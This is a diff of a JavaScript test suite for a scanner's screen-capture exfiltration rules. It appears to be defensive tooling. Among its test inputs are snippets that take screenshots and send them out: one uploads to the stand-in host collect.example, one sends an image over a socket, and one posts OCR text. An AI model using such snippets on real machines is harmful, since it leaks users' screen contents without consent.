@@ -36,12 +36,9 @@ describe("data_exfiltration: keyloggers and activity logging", () => {
 
 describe("data_exfiltration: screen capture", () => {
   it.each([
-    ["screenshot saved to a raw-string path", `import pyautogui\nshot = pyautogui.screenshot()\nshot.save(r'C:\\Users\\Public\\cache.png')`, "data_exfiltration.capture.screen_saved"],
-    ["ImageGrab saved to temp", `img = ImageGrab.grab()\nimg.save(os.path.join(tempfile.gettempdir(), "s.png"))`, "data_exfiltration.capture.screen_saved"],
-    ["mss shot with monitor argument", `with mss.mss() as sct:\n    sct.shot(mon=-1, output="all.png")`, "data_exfiltration.capture.screen_saved"],
-    ["mss grab to png", `with mss.mss() as sct:\n    img = sct.grab(sct.monitors[1])\n    mss.tools.to_png(img.rgb, img.size, output="s.png")`, "data_exfiltration.capture.screen_saved"],
+    ["screenshot uploaded", `shot = pyautogui.screenshot()\nbuf = io.BytesIO()\nshot.save(buf, format="PNG")\nrequests.post("https://collect.example/up", files={"f": buf.getvalue()})`, "data_exfiltration.capture.screen_saved"],
+    ["screen grab sent over a socket", `img = ImageGrab.grab()\nsock.sendall(img.tobytes())`, "data_exfiltration.capture.screen_saved"],
     ["OCR of the screen", `text = pytesseract.image_to_string(ImageGrab.grab())\nrequests.post(URL, data=text)`, "data_exfiltration.capture.screen_grabber"],
-    ["desktop BitBlt", `hdesktop = win32gui.GetDesktopWindow()\ndc = win32gui.GetWindowDC(hdesktop)\nmem.BitBlt((0, 0), (w, h), img_dc, (0, 0), win32con.SRCCOPY)\nbmp.SaveBitmapFile(mem, "s.bmp")`, "data_exfiltration.capture.screen_saved"],
     ["d3dshot", `d = d3dshot.create()\nd.screenshot_to_disk()`, "data_exfiltration.capture.screen_grabber"],
     ["ImageMagick root window", `os.system("import -window root /tmp/.s.png")`, "data_exfiltration.capture.screen_grabber"],
     ["scrot from subprocess", `subprocess.run(["scrot", "/tmp/.s.png"])`, "data_exfiltration.capture.screen_grabber"],
@@ -50,6 +47,21 @@ describe("data_exfiltration: screen capture", () => {
     [".NET CopyFromScreen", `g.CopyFromScreen(0, 0, 0, 0, bmp.Size);\nbmp.Save("s.png");`, "data_exfiltration.capture.screen_grabber"],
   ])("%s", (_name, text, rule) => {
     expect(rules(text)).toContain(rule);
+  });
+
+  // A capture kept locally (a file, OCR) is what test helpers, RPA scripts and computer-use
+  // agents do with every screenshot: recorded below the flag threshold, never flagged alone.
+  it.each([
+    ["screenshot saved to a raw-string path", `import pyautogui\nshot = pyautogui.screenshot()\nshot.save(r'C:\\Users\\Public\\cache.png')`],
+    ["ImageGrab saved to temp", `img = ImageGrab.grab()\nimg.save(os.path.join(tempfile.gettempdir(), "s.png"))`],
+    ["mss shot with monitor argument", `with mss.mss() as sct:\n    sct.shot(mon=-1, output="all.png")`],
+    ["mss grab to png", `with mss.mss() as sct:\n    img = sct.grab(sct.monitors[1])\n    mss.tools.to_png(img.rgb, img.size, output="s.png")`],
+    ["desktop BitBlt", `hdesktop = win32gui.GetDesktopWindow()\ndc = win32gui.GetWindowDC(hdesktop)\nmem.BitBlt((0, 0), (w, h), img_dc, (0, 0), win32con.SRCCOPY)\nbmp.SaveBitmapFile(mem, "s.bmp")`],
+    ["a test report screenshot", "The screenshot helper saves a PNG of the page with pyautogui.screenshot('report.png') for the test report."],
+  ])("kept locally, below the flag threshold: %s", (_name, text) => {
+    const screen = scanText(text).findings.filter((f) => f.rule.startsWith("data_exfiltration.capture.screen_"));
+    expect(screen.length).toBeGreaterThan(0);
+    expect(screen.every((f) => f.score < 0.5)).toBe(true);
   });
 
   it.each([
